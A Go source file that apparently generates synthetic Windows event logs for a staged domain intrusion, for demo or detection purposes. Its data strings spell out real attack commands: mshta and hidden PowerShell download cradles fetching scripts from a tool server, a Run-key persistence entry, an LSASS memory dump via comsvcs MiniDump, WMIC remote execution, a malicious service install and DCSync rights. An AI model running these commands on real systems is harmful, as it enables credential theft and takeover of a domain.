// SPDX-FileCopyrightText: 2026 The Gambeson Authors
// SPDX-License-Identifier: Apache-2.0

package demo

import (
	"strconv"
	"time"
)

const (
	winword    = `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`
	shellPath  = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	cmdPath    = `C:\Windows\System32\cmd.exe`
	cradle     = `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('` + toolServer + `/a.ps1')"`
	helperPath = `C:\ProgramData\` + intruderFile + `.exe`
)

// run plans a program on a host of the intrusion.
func (p *plan) run(at int64, h *host, x process) {
	p.add(at, Windows, func(w *writer) { w.start(h, x) })
}

// openDocument is what a document does that came with a colleague's mail.
func openDocument(p *plan, at int64) {
	who := p.victim
	p.run(at, who.host, process{image: cmdPath, command: `cmd.exe /c mshta ` + toolServer + `/plan.hta`, parent: winword,
		started: `"` + winword + `" /n "C:\Users\` + who.login + `\Downloads\Release plan Q4.docm" /o ""`, user: who.account(), id: "6944", parentID: "6120"})
	p.run(at+1e9, who.host, process{image: `C:\Windows\System32\mshta.exe`, command: `mshta ` + toolServer + `/plan.hta`, parent: cmdPath,
		started: `cmd.exe /c mshta ` + toolServer + `/plan.hta`, user: who.account(), id: "7012", parentID: "6944"})
}

// runCradle fetches a script and runs it.
func runCradle(p *plan, at int64) {
	who := p.victim
	p.run(at, who.host, process{image: shellPath, command: cradle, parent: `C:\Windows\System32\mshta.exe`, started: `mshta ` + toolServer + `/plan.hta`, user: who.account(),
		id: "7316", parentID: "7012"})
	p.add(at+2e9, Windows, func(w *writer) {
		w.windows(who.host, sysmon, 3, "ProcessGuid", w.guid(who.host, "7316"), "ProcessId", "7316", "Image", shellPath, "User", who.account(), "Protocol", "tcp",
			"Initiated", "true", "SourceIp", who.host.ip, "SourceHostname", who.host.fqdn, "SourcePort", "50112", "DestinationIp", intruder().ip, "DestinationPort", "8080")
	})
	p.script(at+3e9, who, `IEX (New-Object Net.WebClient).DownloadString('`+toolServer+`/a.ps1')`)
}

// script plans a block of PowerShell that is logged.
func (p *plan) script(at int64, who *person, text string) {
	p.add(at, Windows, func(w *writer) {
		w.windows(who.host, powershell, 4104, "MessageNumber", "1", "MessageTotal", "1", "ScriptBlockText", text, "ScriptBlockId", w.newUUID(), "Path", "")
	})
}

// setRunKey makes the tool start with the person's session.
func setRunKey(p *plan, at int64) {
	who := p.victim
	p.add(at, Windows, func(w *writer) {
		w.windows(who.host, sysmon, 13, "EventType", "SetValue", "ProcessGuid", w.guid(who.host, "7316"), "ProcessId", "7316", "Image", shellPath,
			"TargetObject", `HKU\`+who.sid+`\Software\Microsoft\Windows\CurrentVersion\Run\HelpService`,
			"Details", `powershell.exe -w hidden -c "IEX (gc $env:APPDATA\hlp.txt -raw)"`, "User", who.account())
	})
}

// listDirectory looks for administrators and domain controllers.
func listDirectory(p *plan, at int64) {
	who := p.victim
	for _, command := range []string{`whoami.exe /all`, `net.exe group "Domain Admins" /domain`, `nltest.exe /dclist:corp.` + domain, `nltest.exe /domain_trusts`, `net.exe view \\ham-fs-01 /all`} {
		image := `C:\Windows\System32\` + command[:len("nltest.exe")]
		if command[0] == 'n' && command[1] == 'e' {
			image = `C:\Windows\System32\net.exe`
		}
		p.run(at, who.host, process{image: image, command: command, parent: shellPath, started: cradle, user: who.account(), parentID: "7316"})
		at = p.soon(at+2e9, 14*time.Second)
	}
	p.script(at, who, `Get-DomainUser -AdminCount | Select samaccountname; Find-LocalAdminAccess`)
}

// dumpMemory reads the credentials that are in the memory of the local
// security authority.
func dumpMemory(p *plan, at int64) {
	who := p.victim
	const dump = `C:\Windows\Temp\lsass-748.dmp`
	const rundll = `C:\Windows\System32\rundll32.exe`
	p.run(at, who.host, process{image: rundll, command: `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 748 ` + dump + ` full`, parent: shellPath, started: cradle,
		user: who.account(), integrity: "High", id: "7420", parentID: "7316"})
	p.add(at+200e6, Windows, func(w *writer) {
		w.windows(who.host, sysmon, 10, "SourceProcessGUID", w.guid(who.host, "7420"), "SourceProcessId", "7420", "SourceThreadId", "7424", "SourceImage", rundll,
			"TargetProcessGUID", w.guid(who.host, "748"), "TargetProcessId", "748", "TargetImage", `C:\Windows\System32\lsass.exe`, "GrantedAccess", "0x1FFFFF",
			"CallTrace", `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\dbgcore.dll+6e0a|C:\Windows\System32\comsvcs.dll+1e84d`,
			"SourceUser", who.account(), "TargetUser", `NT AUTHORITY\SYSTEM`)
	})
	p.add(at+500e6, Windows, func(w *writer) {
		w.windows(who.host, sysmon, 11, "ProcessGuid", w.guid(who.host, "7420"), "ProcessId", "7420", "Image", rundll, "TargetFilename", dump,
			"CreationUtcTime", w.now.Format("2006-01-02 15:04:05.000"), "User", who.account())
	})
}

// copyToShare brings a program to the file server as an administrator whose
// hash was in the dump.
func copyToShare(p *plan, at int64) {
	admin, from := p.admins[stolenAdmin], p.victim.host
	p.add(at, Windows, func(w *writer) { w.logon(w.fs, admin, "3", "NtLmSsp ", "NTLM", from.name, from.ip) })
	for i, name := range []string{`ADMIN$`, `ADMIN$`} {
		p.add(at+int64(i+1)*300e6, Windows, func(w *writer) {
			w.windows(w.fs, security, 5145, "SubjectUserSid", admin.sid, "SubjectUserName", admin.login, "SubjectDomainName", netbios, "SubjectLogonId", "0x3a91c0",
				"ObjectType", "File", "IpAddress", from.ip, "IpPort", strconv.Itoa(50_240+i), "ShareName", `\\*\`+name, "ShareLocalPath", `\??\C:\Windows`,
				"RelativeTargetName", `Temp\`+intruderFile+`.exe`, "AccessMask", "0x2", "AccessList", "%%4417\n\t\t\t\t%%4418", "AccessReason", "-")
		})
	}
}

// installService runs the program as a service.
func installService(p *plan, at int64) {
	command := `%COMSPEC% /c powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('` + toolServer + `/b.ps1')"`
	p.add(at, Windows, func(w *writer) {
		w.windows(w.fs, system, 7045, "ServiceName", intruderFile, "ImagePath", command, "ServiceType", "user mode service", "StartType", "demand start", "AccountName", "LocalSystem")
	})
	p.run(at+700e6, p.fs, process{image: shellPath, command: `powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('` + toolServer + `/b.ps1')"`,
		parent: cmdPath, started: `C:\Windows\system32\cmd.exe /c powershell -nop -w hidden -c "IEX …"`, user: `NT AUTHORITY\SYSTEM`, integrity: "System"})
}

// runOverWMI starts a command on the domain controller, from a process that
// runs with the token of the administrator's session.
func runOverWMI(p *plan, at int64) {
	admin, from := p.admins[stolenAdmin], p.victim
	p.run(at, from.host, process{image: `C:\Windows\System32\wbem\WMIC.exe`, command: `wmic.exe /node:` + p.dc.fqdn + ` /user:` + admin.account() + ` process call create "cmd.exe /c quser"`,
		parent: shellPath, started: cradle, user: admin.account(), integrity: "High", parentID: "7316"})
	p.add(at+400e6, Windows, func(w *writer) { w.logon(w.dc, admin, "3", "NtLmSsp ", "NTLM", from.host.name, from.host.ip) })
	p.run(at+900e6, p.dc, process{image: cmdPath, command: `cmd.exe /c quser 1> \\127.0.0.1\ADMIN$\__1763276580 2>&1`, parent: `C:\Windows\System32\wbem\WmiPrvSE.exe`,
		started: `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, user: admin.account(), integrity: "High"})
}

// replicateDirectory asks the domain controller for all secrets.
func replicateDirectory(p *plan, at int64) {
	admin := p.admins[stolenAdmin]
	for i, right := range []string{"1131f6aa-9c07-11d1-f79f-00c04fc2dcd2", "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2", "89e95b76-444d-4c62-991a-0facbeda640c"} {
		p.add(at+int64(i)*90e6, Windows, func(w *writer) {
			w.windows(w.dc, security, 4662, "SubjectUserSid", admin.sid, "SubjectUserName", admin.login, "SubjectDomainName", netbios, "SubjectLogonId", "0x3b20f4",
				"ObjectServer", "DS", "ObjectType", "%{19195a5b-6da0-11d0-afd3-00c04fd930c9}", "ObjectName", "%{7f0d6a3e-2f5c-4c41-9d4e-3c2a7d1be0f5}", "OperationType", "Object Access",
				"HandleId", "0x0", "AccessList", "%%7688", "AccessMask", "0x100", "Properties", "%%7688\r\n\t{"+right+"}\r\n\t{19195a5b-6da0-11d0-afd3-00c04fd930c9}", "AdditionalInfo", "-")
		})
	}
}
